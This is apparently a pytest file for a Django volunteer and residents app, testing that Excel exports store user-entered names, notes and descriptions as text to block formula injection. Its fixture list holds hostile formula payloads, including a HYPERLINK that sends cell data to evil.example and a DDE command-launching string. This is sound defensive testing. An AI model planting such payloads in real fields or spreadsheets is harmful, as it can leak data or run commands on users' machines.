"""Text a user typed is text in every export, never a formula (issue: formula injection).

A name, a note or a description that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
comes from anyone (the public registration takes names), and Excel would run it. Each export
writes it as a string cell marked as text.
"""

import io
from decimal import Decimal
from typing import Any

import openpyxl  # type: ignore[import-untyped]
from django.urls import reverse
from django.utils import timezone

from linli.accounts.models import Role
from linli.ledger.actions import ledger_credit
from linli.people.models import Resident
from tests.conftest import signed_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells_holding(content: bytes, values: list[str]) -> list[Any]:
    """The cells of every sheet whose value is one of `values`, as openpyxl reads them back."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in values
    ]


def assert_all_text(content: bytes, values: list[str]) -> None:
    cells = cells_holding(content, values)
    assert {cell.value for cell in cells} == set(values)
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.number_format == "@", (cell.coordinate, cell.value)


def test_the_resident_export_writes_names_and_notes_as_text(registry: Any, world: Any) -> None:
    Resident.objects.filter(pk=registry.li.pk).update(name=FORMULAS[0], note=FORMULAS[1])
    Resident.objects.filter(pk=registry.wang.pk).update(name=FORMULAS[2], note=FORMULAS[3])
    client = signed_in(world.user(Role.STATION_STAFF))
    response = client.get(reverse("people:export"), {"full": "1"})
    assert response.status_code == 200
    assert_all_text(response.content, FORMULAS[:4])


def test_the_volunteer_export_writes_names_and_skills_as_text(corps: Any, world: Any) -> None:
    person = corps.volunteer.person
    type(person).objects.filter(pk=person.pk).update(name=FORMULAS[0])
    type(corps.volunteer).objects.filter(pk=corps.volunteer.pk).update(skills=FORMULAS[4])
    client = signed_in(world.user(Role.STATION_STAFF))
    for name in ("volunteers:export", "volunteers:export_national"):
        response = client.get(reverse(name))
        assert response.status_code == 200, name
        assert cells_holding(response.content, [FORMULAS[0]]), name
        for cell in cells_holding(response.content, FORMULAS):
            assert cell.data_type == "s" and cell.number_format == "@", (name, cell.value)


def test_the_national_hours_export_writes_descriptions_as_text(corps: Any, world: Any) -> None:
    ledger_credit(
        volunteer=corps.volunteer,
        account="hours",
        amount=Decimal("2"),
        kind="adjustment",
        served_on=timezone.localdate(),
        description=FORMULAS[2],
        source_key="formula:1",
        actor=None,
    )
    person = corps.volunteer.person
    type(person).objects.filter(pk=person.pk).update(name=FORMULAS[3])
    response = signed_in(world.user(Role.STATION_STAFF)).get("/hours/export.xlsx")
    assert response.status_code == 200
    assert_all_text(response.content, [FORMULAS[3], FORMULAS[2]])
